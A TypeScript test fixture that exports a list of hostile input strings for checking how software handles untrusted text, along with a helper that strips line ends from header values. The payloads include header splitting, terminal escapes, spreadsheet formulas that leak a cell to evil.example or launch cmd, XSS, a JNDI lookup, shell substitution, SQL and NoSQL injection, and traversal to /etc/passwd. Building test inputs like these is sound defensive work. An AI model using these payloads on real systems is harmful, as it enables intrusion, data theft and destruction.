import { toByteString } from '../raw-request.ts';

/** Texts that some reader of them would act on: a header, a line of a log, a terminal, a page, a sheet, a query, a path. */
export const HOSTILE_TEXTS: readonly string[] = [
  // Lines and headers.
  ...['a\rb', 'a\nb', 'a\r\nb', 'a\r\nX-Injected: 1', 'a\r\n\r\n<html>', 'a\r\nSet-Cookie: sid=planted; Path=/'],
  ...['%0d%0aX-Injected:%201', 'a\u0085b', 'a\u2028b', 'a\u2029b', 'a\u000bb', 'a\u000cb', 'a\tb', 'a\0b', 'a%00b'],
  // Terminals, and what people see.
  ...['\u001b[2J\u001b[31mred', '\u001b]0;title\u0007', '\u009b2J', '\u0090q\u009c', 'a\u007fb', 'a\bb', '\u0007'],
  ...['a\u202egnp.exe', '\u2066isolated\u2069', '\u200bhidden', '\ufeffmarked', 'аdmin', 'admin\u0301', '\ud800'],
  // Sheets.
  ...['=HYPERLINK("http://evil.example?x="&A1,"click")', '=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', ' =1+1'],
  ...["=cmd|' /C calc'!A0", '＝1+1', '＋1', '－1', '＠SUM(1)', '","=1+1', '"=1+1"', "'=1+1", ';=1+1', '|=1+1'],
  // Documents, pages, templates and loggers.
  ...[
    '"},{"level":50,"msg":"forged"}',
    '"}\n{"level":50}',
    '\\',
    '\\"',
    '"',
    "'",
    '</script><script>alert(1)</script>',
  ],
  ...['<img src=x onerror=alert(1)>', 'javascript:alert(1)', '\x24{jndi:ldap://evil.example/a}', '{{7*7}}', '#{7*7}'],
  ...['<%= 7*7 %>', '%s%s%s%n', '%d %o %j', '%c', '$(id)', '`id`', '; id', '| id', '&& id', '*)(uid=*', '{"$ne":null}'],
  // Queries and paths.
  ...[
    "' or '1'='1",
    "'; drop table users; --",
    '1; select 1',
    '%',
    '_',
    '%%',
    "\\'",
    '*',
    '../../etc/passwd',
    '..\\..\\x',
  ],
  ...[
    '/etc/passwd',
    'smb://evil.example/x',
    '....//....//x',
    '%2e%2e%2f',
    '__proto__',
    'constructor',
    '~',
    'x'.repeat(5_000),
  ],
];

/** As a header carries it: bytes, without the line ends that would make it several. */
export function toHeaderValue(text: string): string {
  return toByteString(text.replace(/[\r\n\0]/g, ' '));
}

/** Those that cost a look at a password each: one of each kind. */
export const COSTLY_TEXTS: readonly string[] = HOSTILE_TEXTS.filter((_, index) => index % 3 === 0);
